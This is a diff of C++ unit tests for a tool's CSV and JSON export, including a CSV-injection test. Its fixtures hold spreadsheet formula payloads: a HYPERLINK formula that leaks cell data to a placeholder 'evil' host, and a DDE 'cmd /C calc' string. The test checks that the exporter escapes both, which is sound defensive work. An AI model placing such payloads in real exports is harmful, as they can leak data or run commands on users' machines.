@@ -59,7 +59,7 @@ TEST(Export, CsvHasOneRowPerSample) {
   bad.size = 100'000'000;
   bad.error = "short read, at 12 MB";
   run.stages[1].samples.push_back(bad);
-  auto rows = parse_csv(export_csv(run));
+  auto rows = parse_csv(export_csv(stored::decode(run)));
   size_t samples = 0;
   for (const auto& st : run.stages) samples += st.samples.size();
   ASSERT_EQ(rows.size(), samples + 1);
@@ -134,9 +134,11 @@ TEST(SecurityCsvInjection, FormulaCellsAreText) {
   s.cpu_json =
       R"({"server":{"seconds":1,"core_busy_pct":[40],"top":[{"pid":7,"comm":"@SUM(1+1)*cmd",)"
       R"("cpu_pct":38}]}})";
-  s.details_json = R"({"offset_s":-5,"skew":-0.25,"text":"-5","list":[-1,2]})";
-  run.stages[0].samples[1].details_json = R"({"note":"\t=1+1"})";
-  const auto rows = parse_csv(export_csv(run));
+  // Details as the protocol stage stores them (core/messages.h TransferDetails),
+  // here stalled with a (nonsense) negative silence.
+  s.details_json = R"({"file":"-5","stalled":true,"silent_seconds":-0.25})";
+  run.stages[0].samples[1].details_json = R"({"properties":{"note":"\t=1+1"}})";
+  const auto rows = parse_csv(export_csv(stored::decode(run)));
   ASSERT_EQ(rows.size(), 3u);
   const auto& head = rows[0];
   auto col = [&](const std::string& name) {
@@ -147,12 +149,10 @@ TEST(SecurityCsvInjection, FormulaCellsAreText) {
   EXPECT_EQ(rows[1][col("run_label")], "'=HYPERLINK(\"http://evil/?\"&A1,\"open\")");
   EXPECT_EQ(rows[1][col("error")], "'+cmd|' /C calc'!A0");
   EXPECT_EQ(rows[1][col("server_top_process")], "'@SUM(1+1)*cmd");
-  EXPECT_EQ(rows[1][col("details.text")], "'-5");
-  EXPECT_EQ(rows[2][col("details.note")], "'\t=1+1");
-  // Numbers stay numbers, negative ones too; an array stays its JSON.
-  EXPECT_EQ(rows[1][col("details.offset_s")], "-5");
-  EXPECT_EQ(rows[1][col("details.skew")], "-0.25");
-  EXPECT_EQ(rows[1][col("details.list")], "[-1,2]");
+  EXPECT_EQ(rows[1][col("details.file")], "'-5");
+  EXPECT_EQ(rows[2][col("details.properties.note")], "'\t=1+1");
+  // Numbers stay numbers, negative ones too.
+  EXPECT_EQ(rows[1][col("details.silent_seconds")], "-0.25");
   // No cell of any row starts a formula unless it is a number.
   for (const auto& r : rows) {
     for (const std::string& c : r) {
@@ -168,7 +168,7 @@ TEST(SecurityCsvInjection, FormulaCellsAreText) {
 
 TEST(Export, JsonHasTheSameRowsAndWholeDetails) {
   RunRecord run = testing::seed_run();
-  auto doc = boost::json::parse(export_json(run)).as_object();
+  auto doc = boost::json::parse(export_json(stored::decode(run))).as_object();
   EXPECT_EQ(doc.at("run").at("label").as_string(), "before");
   const auto& samples = doc.at("samples").as_array();
   size_t n = 0;
@@ -187,13 +187,13 @@ TEST(Export, JsonNamesTheRunsDegradedFacts) {
   run.hosts[0].facts_json =
       R"({"hostname":"nas","degraded":[{"fact":"disk_cache_bypass","method":"flagged",)"
       R"("privilege":"root: zfs set primarycache=metadata"}]})";
-  auto doc = boost::json::parse(export_json(run)).as_object();
+  auto doc = boost::json::parse(export_json(stored::decode(run))).as_object();
   const auto& d = doc.at("run").at("degraded").as_array();
   ASSERT_EQ(d.size(), 1u);
   EXPECT_EQ(d[0].at("role").as_string(), "server");
   EXPECT_EQ(d[0].at("fact").as_string(), "disk_cache_bypass");
   EXPECT_EQ(d[0].at("privilege").as_string(), "root: zfs set primarycache=metadata");
-  EXPECT_TRUE(boost::json::parse(export_json(testing::seed_run()))
+  EXPECT_TRUE(boost::json::parse(export_json(stored::decode(testing::seed_run())))
                   .at("run")
                   .at("degraded")
                   .as_array()
